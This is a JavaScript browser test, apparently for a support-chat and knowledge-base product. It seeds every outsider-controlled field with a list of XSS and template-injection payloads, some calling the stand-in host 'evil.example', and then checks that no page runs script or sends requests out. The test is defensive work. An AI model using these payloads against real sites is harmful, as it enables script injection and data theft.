// Everything that outsiders control, filled with what would run or call home if it were ever more than text: every page
// is then opened in a browser behind a proxy that writes down all it asks for. Nothing runs, nothing leaves.
// XSS_PAYLOADS names a JSON file with more of them (a list of strings).

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { test } from "node:test";
import { openHouse, until } from "./lib/house.mjs";
import { launch, person, shot, signInByLink } from "./lib/browser.mjs";
import { openProxy, openRelay } from "./lib/outside.mjs";

const CALL = "window.ran=(window.ran||0)+1";
const AWAY = "//evil.example/x";
const OWN = [
  `<script>${CALL}</script>`, `<script src=${AWAY}></script>`, `<img src=${AWAY} onerror="${CALL}">`, `<img/src/onerror=${CALL}>`,
  `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><use href="${AWAY}#x"/></svg>`, `<body onload=${CALL}>`,
  `"><script>${CALL}</script>`, `'><img src=x onerror=${CALL}>`, `</textarea><script>${CALL}</script>`, `</title><script>${CALL}</script>`,
  `</option></select><img src=x onerror=${CALL}>`, `--><script>${CALL}</script><!--`, `]]><script>${CALL}</script>`,
  `" autofocus onfocus="${CALL}" x="`, `' onmouseover='${CALL}`, `x onclick=${CALL}`, `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`, `<a href="javascript:${CALL}">click</a>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src=${AWAY}></iframe>`, `<object data=${AWAY}></object>`, `<embed src=${AWAY}>`, `<link rel=stylesheet href=${AWAY}>`, `<link rel=prefetch href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<base href=${AWAY}>`, `<form action=${AWAY}><input name=csrf></form>`, `<style>@import '${AWAY}';</style>`,
  `<div style="background:url(${AWAY})">`, `<video src=${AWAY} onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`, `<details open ontoggle=${CALL}>`,
  `<marquee onstart=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`, `<template><script>${CALL}</script></template>`,
  `![x](${AWAY})`, `[x](javascript:${CALL})`, `[a]: ${AWAY}\n![x][a]`, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{% raw %}<script>${CALL}</script>`,
  `\u003cscript\u003e${CALL}\u003c/script\u003e`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `%3Cscript%3E${CALL}%3C/script%3E`, `＜script＞${CALL}＜/script＞`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<a href=x onmouseover=${CALL}>`, `<isindex action=javascript:${CALL}>`, `<x contenteditable onblur=${CALL}>`,
  `\u2028<script>${CALL}</script>`, `\u0000<script>${CALL}</script>`.replace("\u0000", ""), `"/><script>${CALL}</script>`, `</script><script>${CALL}</script>`,
];

test("0 executions and 0 requests out, whatever outsiders write in any field", { timeout: 420_000 }, async () => {
  const more = process.env.XSS_PAYLOADS ? JSON.parse(await readFile(process.env.XSS_PAYLOADS, "utf8")) : [];
  const payloads = [...OWN, ...more];
  const relay = await openRelay();
  const house = await openHouse({ config: `${relay.config}[survey]\ncsat = "link"\n`, named: true });
  const proxy = await openProxy(house.url);
  const browser = await launch({ proxy: { server: proxy.url, bypass: "<-loopback>" } });
  try {
    for (const [n, text] of payloads.entries()) {
      const id = `c_${n}`;
      const said = { direction: "from_user", author: { id: text.slice(0, 100), name: text.slice(0, 200) } };
      await relay.tell(house, id, "chat_opened", { page_url: text.slice(0, 500) });
      // Every third is answered, held, or resolved and rated: different pages show them.
      const words = [`How long does shipping to Canada take? ${text}`, `I want a refund ${text}`, text][n % 3];
      await relay.tell(house, id, "message_sent", { ...said, message_id: `m_${n}`, text: words });
      await relay.tell(house, id, "message_sent", { direction: "from_owner", private: true, author: said.author, message_id: `n_${n}`, text });
      if (n % 3 === 2) {
        await relay.tell(house, id, "message_sent", { direction: "from_owner", author: said.author, message_id: `o_${n}`, text });
        await relay.tell(house, id, "csat_submitted", { survey_id: `s_${n}`, score: 1, comment: text });
        await relay.tell(house, id, "chat_resolved", {});
      }
    }
    const owner = await person(browser, house);
    await owner.page.addInitScript(() => (window.ran = 0));
    const ran = [];
    const look = async (path) => {
      await owner.go(path);
      await owner.page.locator("#main").waitFor();
      // What is folded away is opened; what would run when touched is touched.
      await owner.page.evaluate(() => {
        for (const one of document.querySelectorAll("details")) one.open = true;
        for (const one of document.querySelectorAll("main *")) {
          for (const kind of ["mouseover", "focus", "error", "toggle"]) one.dispatchEvent(new Event(kind, { bubbles: false }));
        }
      });
      await check(path);
    };
    const check = async (path) => {
      const found = await owner.page.evaluate(() => [window.ran, document.querySelectorAll("main :is(script, iframe, object, embed, img, base, video, audio, style, link, [onerror], [onload], [href^='javascript:' i])").length]);
      if (found[0] || found[1]) ran.push(`${path}: ran ${found[0]}, elements ${found[1]}`);
    };
    await signInByLink(owner, house);
    // What stands in an article, and what a draft quotes from it.
    const csrf = await owner.page.locator("form[action='/logout'] input[name=csrf]").getAttribute("value");
    const articles = await owner.page.evaluate(async ([csrf, payloads]) => {
      const made = [];
      for (const [n, text] of payloads.entries()) {
        const body = `## How many postcards are in box ${n}?\n\nThere are ${n + 2} postcards ${text} in box ${n}.\n\n${text}`;
        const headers = { "content-type": "application/json", "x-csrf-token": csrf };
        const answer = await fetch("/v1/knowledge/articles", { method: "POST", headers, body: JSON.stringify({ title: `Box ${n} ${text}`.slice(0, 150), body }) });
        if (answer.ok) made.push({ n, slug: (await answer.json()).slug });
      }
      return made;
    }, [csrf, payloads.map((text) => text.replaceAll("\u2028", " "))]);
    assert.ok(articles.length > payloads.length / 2, `${articles.length} articles were taken`);
    for (const { n } of articles) {
      const said = { direction: "from_user", author: { id: `q_${n}`, name: `q_${n}` }, message_id: `q_${n}`, text: `How many postcards are in box ${n}?` };
      await relay.tell(house, `q_${n}`, "message_sent", said);
    }
    await until("all are heard", async () => {
      const open = await owner.page.evaluate(async () =>
        (await (await fetch("/v1/conversations?relay=outside&limit=100&state=gathering")).json()).items.length);
      return open === 0;
    }, 120_000);
    await owner.page.waitForTimeout(3_000);
    const drafts = await owner.page.evaluate(async () =>
      (await (await fetch("/v1/suggestions?state=pending&limit=100")).json()).items.map((one) => one.text));
    const quoted = drafts.filter((text) => /postcards .*(ran|evil)/s.test(text)).length;
    assert.ok(quoted > 5, `${quoted} drafts quote what should never run:\n${drafts.slice(0, 9).join("\n")}`);
    await look("/");
    await shot(owner.page, "payloads-inbox");
    for (const { slug } of articles) await look(`/knowledge/articles/${slug}`);
    for (const path of ["/knowledge", "/reports/knowledge"]) await look(path);
    let next = "/conversations";
    const chats = [];
    while (next) {
      await look(next);
      chats.push(...(await owner.page.locator("a.row").evaluateAll((all) => all.map((one) => one.getAttribute("href")))));
      const link = owner.page.locator("a[rel=next]");
      next = (await link.count()) ? await link.getAttribute("href") : null;
    }
    assert.ok(chats.length >= payloads.length, `${chats.length} chats are listed`);
    for (const chat of chats.filter((_, n) => n % 2 === 0)) await look(chat);
    for (const text of payloads) {
      await look(`/knowledge?q=${encodeURIComponent(text.slice(0, 1_000))}`);
      await look(`/conversations?q=${encodeURIComponent(text.slice(0, 150))}`);
    }
    for (const path of ["/reports/comparison", "/reports/confidence", "/learning", "/settings/rules", "/dead-letters", "/settings/audit", "/settings/topics", "/settings/replies"]) await look(path);
    // The page that asks how it was shows what the one who answers has written.
    const asks = { direction: "from_user", author: { id: "rates", name: payloads[0] }, message_id: "s_1", text: `I want a refund ${payloads[0]}` };
    await relay.tell(house, "survey", "message_sent", asks);
    await until("a human is to answer", () => relay.actions.some((one) => one.data.conversation_id === "survey"));
    await relay.tell(house, "survey", "message_sent", { ...asks, direction: "from_owner", message_id: "s_2" });
    await relay.tell(house, "survey", "chat_resolved", {});
    const survey = await until("somebody is asked how it was", () =>
      relay.actions.map((one) => one.data.conversation_id === "survey" && one.data.text?.match(/\/s\/[\w-]+/)?.[0]).find(Boolean));
    await owner.go(survey);
    await owner.page.locator("button[name=score]").first().click();
    for (const text of payloads.slice(0, 10)) {
      await owner.page.getByRole("textbox").fill(text.slice(0, 500));
      await owner.page.locator("button.send").click();
      await owner.page.getByRole("textbox").waitFor();
      await check(survey);
    }
    assert.deepEqual(ran, []);
    assert.deepEqual(proxy.strangers(), [], "no request leaves for elsewhere");
    assert.ok(proxy.asked.length > chats.length, "the proxy has seen the browser");
    // An article that cannot be one is refused.
    owner.clean(/status of 400 .*\/v1\/knowledge\/articles/);
    console.log(`# ${payloads.length} payloads, ${proxy.asked.length} requests seen, 0 for strangers`);
  } finally {
    await browser.close();
    await proxy.close();
    await house.close();
    await relay.close();
  }
});
